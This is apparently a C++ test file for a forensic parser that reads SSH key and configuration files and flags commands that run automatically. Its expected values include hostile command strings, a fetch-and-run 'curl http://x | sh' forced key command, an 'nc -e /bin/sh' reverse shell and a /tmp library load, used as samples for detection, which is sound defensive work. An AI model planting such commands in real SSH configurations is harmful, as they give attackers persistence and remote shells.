#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_ssh/key.hpp"
#include "traces/linux_ssh/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_ssh {

namespace {

void parse_all(std::string_view content, std::string_view name, test::CollectingContext& collected)
{
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
}

std::string sample(std::string_view name)
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_ssh/testdata/" + std::string(name));
}

}

// covers: L15
TEST(LinuxSsh, KeysHaveTheFingerprintThatSshKeygenShows)
{
    auto const content = sample("authorized_keys");
    EXPECT_EQ(parser.sniff(as_bytes(content), "[root]/home/hanako/.ssh/authorized_keys"), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, "[root]/home/hanako/.ssh/authorized_keys", collected);
    auto const keys = collected.rows("linux.ssh_key");
    ASSERT_EQ(keys.size(), 5U);
    EXPECT_EQ(keys[0].at("fingerprint"), "SHA256:TFu2W0fPC93TxUcyqUaloszqCc+gEJRF/XCjh0awV1M"); // ssh-keygen -lf
    EXPECT_EQ(keys[0].at("comment"), "taro@example");
    EXPECT_EQ(keys[0].at("user"), "hanako");
    EXPECT_EQ(keys[0].at("is_host_key"), "false");
    EXPECT_EQ(keys[0].at("line"), "2");
    EXPECT_EQ(keys[1].at("command"), "/bin/sh -c \"curl http://x | sh\"");
    EXPECT_EQ(keys[1].at("comment"), "job on two words");
    EXPECT_EQ(keys[1].at("fingerprint"), keys[0].at("fingerprint"));
    EXPECT_NE(keys[1].at("options").find("environment=\"A=b c\""), std::string::npos);
    EXPECT_EQ(keys[3].count("fingerprint"), 0U);
    EXPECT_EQ(keys[4].at("type"), "rsa1");
    EXPECT_EQ(collected.diagnostics.list.size(), 3U);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 1U);
    EXPECT_EQ(rows[0].at("kind"), "key");
    EXPECT_TRUE(rows[0].at("detail").starts_with("does: fetches pipes_to_interpreter; no-pty,"));
}

TEST(LinuxSsh, ACommandInsideAnotherOptionIsNone)
{
    auto const key = read_key("environment=\"X=,\\\"command=\\\"\",no-pty ssh-ed25519 AAAA c");
    ASSERT_TRUE(key);
    EXPECT_EQ(key->type, "ssh-ed25519");
    EXPECT_FALSE(read_key("command=\"x"));
    EXPECT_FALSE(read_key(""));
    EXPECT_EQ(read_key("cert-authority,principals=\"a,b\" sk-ssh-ed25519@openssh.com AAAA")->type,
        "sk-ssh-ed25519@openssh.com");
}

// covers: L16
TEST(LinuxSsh, SettingsKeepTheirMatchBlockAndCommandsAreRows)
{
    test::CollectingContext collected;
    parse_all(sample("sshd_config"), "/etc/ssh/sshd_config.d/50-x.conf", collected);
    auto const settings = collected.rows("linux.setting");
    ASSERT_EQ(settings.size(), 8U);
    EXPECT_EQ(settings[1].at("name"), "AuthorizedKeysFile");
    EXPECT_EQ(settings[1].at("value"), ".ssh/authorized_keys /etc/.keys/%u");
    EXPECT_EQ(settings[1].at("location"), "L15");
    EXPECT_EQ(settings[3].at("name"), "PermitRootLogin");
    EXPECT_EQ(settings[3].at("value"), "yes");
    EXPECT_EQ(settings[7].at("section"), "Match User backup");
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 4U);
    EXPECT_EQ(rows[0].at("command"), "/usr/bin/fetch-keys %u");
    EXPECT_EQ(rows[0].at("location"), "L15");
    EXPECT_EQ(rows[1].at("name"), "Subsystem sftp");
    EXPECT_EQ(rows[1].at("command"), "/usr/lib/openssh/sftp-server");
    EXPECT_EQ(rows[3].at("detail"), "does: opens_connection; Match User backup");
}

TEST(LinuxSsh, ClientsRunCommandsToo)
{
    test::CollectingContext collected;
    parse_all(sample("config"), "/root/.ssh/config", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 4U);
    EXPECT_EQ(rows[0].at("command"), "nc -e /bin/sh %h %p");
    EXPECT_EQ(rows[0].at("detail"), "does: opens_connection; Host *");
    EXPECT_EQ(rows[1].at("name"), "Match exec");
    EXPECT_EQ(rows[1].at("command"), "curl http://x");
    EXPECT_EQ(rows[3].at("command"), "/tmp/x.so");
    EXPECT_EQ(rows[3].at("user"), "root");
}

TEST(LinuxSsh, HostKeysAndNamedKeyFiles)
{
    test::CollectingContext collected;
    auto const content = sample("authorized_keys");
    auto const line = std::string_view(content).substr(9, content.find('\n', 9) - 9);
    parse_all(line, "/etc/ssh/ssh_host_ed25519_key.pub", collected);
    parse_all(line, "/etc/ssh/authorized_keys/jiro", collected);
    auto const keys = collected.rows("linux.ssh_key");
    ASSERT_EQ(keys.size(), 2U);
    EXPECT_EQ(keys[0].at("is_host_key"), "true");
    EXPECT_EQ(keys[0].count("user"), 0U);
    EXPECT_EQ(keys[1].at("user"), "jiro");
}

TEST(LinuxSsh, EveryPrefixIsReadWithoutHarm)
{
    for (auto const& [file, name] : { std::pair { "authorized_keys", "/root/.ssh/authorized_keys" },
             { "sshd_config", "/etc/ssh/sshd_config" }, { "config", "/root/.ssh/config" } }) {
        auto const content = sample(file);
        for (std::size_t size = 0; size < content.size(); ++size) {
            test::CollectingContext collected;
            parse_all(std::string_view(content).substr(0, size), name, collected);
            EXPECT_LE(collected.rows("linux.ssh_key").size(), 5U);
        }
    }
}

}
